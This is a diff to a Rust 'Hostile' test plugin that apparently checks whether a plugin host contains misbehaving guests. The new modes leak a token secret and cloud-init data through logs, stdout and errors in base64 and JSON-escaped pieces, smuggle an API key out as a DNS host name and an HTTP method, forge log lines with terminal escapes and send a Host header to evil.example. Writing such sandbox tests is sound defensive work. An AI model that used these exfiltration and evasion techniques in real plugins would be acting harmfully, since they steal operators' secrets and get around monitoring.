@@ -8,11 +8,24 @@
 //! - `get(id)`, id = `attack` or `attack:arg`: `ok`, `loop`, `sleep:<ms>`, `memory`,
 //!   `recurse`, `panic`, `http:<url>`, `host-header:<url>`, `read:<path>`,
 //!   `write:<path>`, `symlink:<target>` (`/tmp/link` -> target, then read it), `fill-tmp:<bytes>`, `log-flood`.
-//! - `create`: leaks cloud-init and the `token` secret through logs, stdout, stderr, the
-//!   error message and the error code.
+//!   A successful attack reports what it achieved in the instance's `id` (spaces as `_`).
+//! - Replies the host must refuse (`get`): `ip:<text>` (Running at that "address"),
+//!   `id-secret` / `uid-secret` (the `token` secret as the ID or UID), `created-at:<secs>`,
+//!   `huge-id:<bytes>`, `id-stash` (the cloud-init stashed by `create` as the ID).
+//! - Leaks the host must scrub (`get`): `stash-leak` (logs, prints and returns in its
+//!   error the cloud-init stashed by an earlier `create`, whole and in pieces: each line,
+//!   values after `:`/`=`, JSON-escaped, base64 inside a JSON body), `secret-print` (the
+//!   `token` secret printed to stdout as is, then line by line to the log),
+//!   `echo-hex:<hex>` (logs the decoded text: as if read back from the backend),
+//!   `log-forge` (a newline and terminal escapes in a log message), `secret-host` (a
+//!   refused request whose host name and method are the `apikey` secret).
+//! - `create`: by `placement.machine-type`: `stash` (keeps the cloud-init in the host cache
+//!   and succeeds), `id-cloud-init` (returns the cloud-init as the ID), anything else leaks
+//!   cloud-init and the `token` secret through logs, stdout, stderr, the error message and
+//!   the error code.
 //! - `check`: leaks the secret in a target's message and details.
 
-use egress_guest_sdk::http::{HeaderError, HttpError, Request};
+use egress_guest_sdk::http::{HeaderError, HttpError, Method, Request};
 use egress_guest_sdk::*;
 use std::hint::black_box;
 use std::io::Write;
@@ -28,6 +41,55 @@ fn instance(id: &str, ip: impl Into<String>, uid: impl Into<String>) -> Instance
         uid: uid.into(),
         created_at: None,
     }
+}
+
+/// A successful attack's finding, in the one reply field meant for free-form IDs.
+fn report(finding: impl Into<String>) -> Instance {
+    Instance {
+        id: finding.into().replace(' ', "_"),
+        ip: String::new(),
+        state: State::Provisioning,
+        uid: "u".into(),
+        created_at: None,
+    }
+}
+
+const STASH: &str = "stashed-cloud-init";
+
+fn stashed() -> String {
+    cache_get(STASH)
+        .map(|b| String::from_utf8_lossy(&b).into_owned())
+        .unwrap_or_default()
+}
+
+/// Pieces of a cloud-init document a plugin could print without printing it whole.
+fn pieces(doc: &str) -> Vec<String> {
+    let mut out = vec![doc.to_string()];
+    for line in doc.lines() {
+        out.push(line.trim().to_string());
+        for sep in [':', '='] {
+            if let Some((_, value)) = line.split_once(sep) {
+                out.push(value.trim().to_string());
+            }
+        }
+        for word in line.split_whitespace() {
+            out.push(word.to_string());
+        }
+    }
+    out.push(serde_json::to_string(doc).unwrap_or_default());
+    let body = format!(
+        "{{\"user_data\":{}}}",
+        serde_json::to_string(doc).unwrap_or_default()
+    );
+    out.push(data_encoding::BASE64.encode(body.as_bytes()));
+    out
+}
+
+fn hex_decode(hex: &str) -> String {
+    let bytes: Vec<u8> = (0..hex.len() / 2)
+        .filter_map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).ok())
+        .collect();
+    String::from_utf8_lossy(&bytes).into_owned()
 }
 
 fn spin() -> ! {
@@ -67,13 +129,13 @@ fn recurse(depth: u64) -> u64 {
     recurse(depth + 1).wrapping_add(frame[(depth % 32) as usize])
 }
 
-fn fetch(id: &str, url: &str, host_header: bool) -> Result<Instance, ProviderError> {
+fn fetch(url: &str, host_header: bool) -> Result<Instance, ProviderError> {
     let mut req = Request::get(url);
     if host_header {
         req = req.header("Host", "evil.example");
     }
     match req.send() {
-        Ok(r) => Ok(instance(id, r.status.to_string(), r.body.len().to_string())),
+        Ok(r) => Ok(report(format!("{} {}", r.status, r.body.len()))),
         Err(
             e @ HttpError::Header {
                 error: HeaderError::Forbidden,
@@ -84,9 +146,9 @@ fn fetch(id: &str, url: &str, host_header: bool) -> Result<Instance, ProviderErr
     }
 }
 
-fn io_report(id: &str, verb: &str, r: std::io::Result<usize>) -> Result<Instance, ProviderError> {
+fn io_report(verb: &str, r: std::io::Result<usize>) -> Result<Instance, ProviderError> {
     match r {
-        Ok(n) => Ok(instance(id, format!("{verb} {n} bytes"), "u")),
+        Ok(n) => Ok(report(format!("{verb} {n} bytes"))),
         Err(e) => Err(ProviderError::permanent(e.to_string()).with_code("IoError")),
     }
 }
@@ -157,10 +219,10 @@ impl Provider for Hostile {
             "sleep" => sleep_forever(),
             "http" => {
                 let url = v.get("url").and_then(|u| u.as_str()).unwrap_or_default();
-                match fetch("validate", url, false) {
+                match fetch(url, false) {
                     Ok(i) => Err(ProviderError::permanent(format!(
                         "validate reached {url}: HTTP {}",
-                        i.ip
+                        i.id
                     ))
                     .with_code("Reached")),
                     Err(e) => Err(e),
@@ -175,6 +237,14 @@ impl Provider for Hostile {
     fn create(req: CreateRequest) -> Result<String, ProviderError> {
         let secret = leaked_secret();
         let cloud_init = String::from_utf8_lossy(&req.cloud_init).into_owned();
+        match req.placement.machine_type.as_str() {
+            "stash" => {
+                cache_set(STASH, &req.cloud_init, 3600);
+                return Ok("stashed-1".into());
+            }
+            "id-cloud-init" => return Ok(cloud_init),
+            _ => {}
+        }
         info!("cloud-init: {cloud_init} secret: {secret}");
         warn!("cloud-init: {cloud_init} secret: {secret}");
         let _ = writeln!(
@@ -194,38 +264,100 @@ impl Provider for Hostile {
     fn get(id: &str) -> Result<Instance, ProviderError> {
         let (attack, arg) = id.split_once(':').unwrap_or((id, ""));
         match attack {
-            "ok" => Ok(instance(id, "127.0.0.1", "u")),
+            "ok" => Ok(report("ok")),
+            "ip" => Ok(instance("i-1", arg, "u")),
+            "id-secret" => Ok(instance(&leaked_secret(), "", "u")),
+            "uid-secret" => Ok(instance("i-1", "", leaked_secret())),
+            "id-stash" => Ok(instance(&stashed(), "", "u")),
+            "created-at" => {
+                let seconds = arg.parse().map_err(|_| {
+                    ProviderError::permanent(format!("created-at needs seconds, got {arg:?}"))
+                })?;
+                Ok(Instance {
+                    created_at: Some(Datetime {
+                        seconds,
+                        nanoseconds: 0,
+                    }),
+                    ..instance("i-1", "", "u")
+                })
+            }
+            "huge-id" => {
+                let n: usize = arg.parse().unwrap_or(1 << 20);
+                Ok(instance(&"i".repeat(n), "", "u"))
+            }
+            "stash-leak" => {
+                let doc = stashed();
+                for piece in pieces(&doc) {
+                    info!("piece: {piece}");
+                    let _ = writeln!(std::io::stdout(), "piece: {piece}");
+                }
+                Err(
+                    ProviderError::transient(format!("stash: {}", pieces(&doc).join(" | ")))
+                        .with_code(doc),
+                )
+            }
+            "secret-print" => {
+                let secret = leaked_secret();
+                let _ = std::io::stdout().write_all(secret.as_bytes());
+                let _ = std::io::stdout().flush();
+                for line in secret.lines() {
+                    warn!("{line}");
+                }
+                Ok(report("printed"))
+            }
+            "echo-hex" => {
+                let text = hex_decode(arg);
+                info!("read back from the backend: {text}");
+                let _ = writeln!(std::io::stderr(), "{text}");
+                Ok(report("echoed"))
+            }
+            "log-forge" => {
+                info!(
+                    "innocent\n2026-12-01T00:00:00Z ERROR FORGED-LINE operator compromised\u{1b}[2J"
+                );
+                Ok(report("forged"))
+            }
+            "secret-host" => {
+                let key = secret_string("apikey").unwrap_or_default();
+                let _ = Request::get(format!("http://{key}.example.invalid/")).send();
+                let _ = Request::new(
+                    Method::Other(key.to_uppercase()),
+                    format!("http://{key}.example.invalid/"),
+                )
+                .send();
+                Ok(report("tried"))
+            }
             "loop" => spin(),
             "sleep" => {
                 let ms = arg.parse().map_err(|_| {
                     ProviderError::permanent(format!("sleep needs milliseconds, got {arg:?}"))
                 })?;
                 sleep_ms(ms);
-                Ok(instance(id, "127.0.0.1", "u"))
+                Ok(report("slept"))
             }
             "memory" => eat_memory(),
             "recurse" => {
                 let n = recurse(0);
-                Ok(instance(id, n.to_string(), "u"))
+                Ok(report(n.to_string()))
             }
             "panic" => panic!("hostile panic"),
-            "http" => fetch(id, arg, false),
-            "host-header" => fetch(id, arg, true),
-            "read" => io_report(id, "read", std::fs::read(arg).map(|b| b.len())),
-            "write" => io_report(id, "wrote", std::fs::write(arg, b"x").map(|()| 1)),
+            "http" => fetch(arg, false),
+            "host-header" => fetch(arg, true),
+            "read" => io_report("read", std::fs::read(arg).map(|b| b.len())),
+            "write" => io_report("wrote", std::fs::write(arg, b"x").map(|()| 1)),
             "symlink" => match symlink_in_tmp(arg, "link") {
-                Ok(()) => io_report(id, "read", std::fs::read("/tmp/link").map(|b| b.len())),
+                Ok(()) => io_report("read", std::fs::read("/tmp/link").map(|b| b.len())),
                 Err(e) => Err(ProviderError::permanent(e.to_string()).with_code("SymlinkError")),
             },
             "fill-tmp" => {
                 let n = arg.parse().map_err(|_| {
                     ProviderError::permanent(format!("fill-tmp needs a byte count, got {arg:?}"))
                 })?;
-                io_report(id, "wrote", fill_tmp(n))
+                io_report("wrote", fill_tmp(n))
             }
             "log-flood" => {
                 log_flood();
-                Ok(instance(id, "127.0.0.1", "u"))
+                Ok(report("flooded"))
             }
             _ => Err(ProviderError::permanent("unknown attack")),
         }
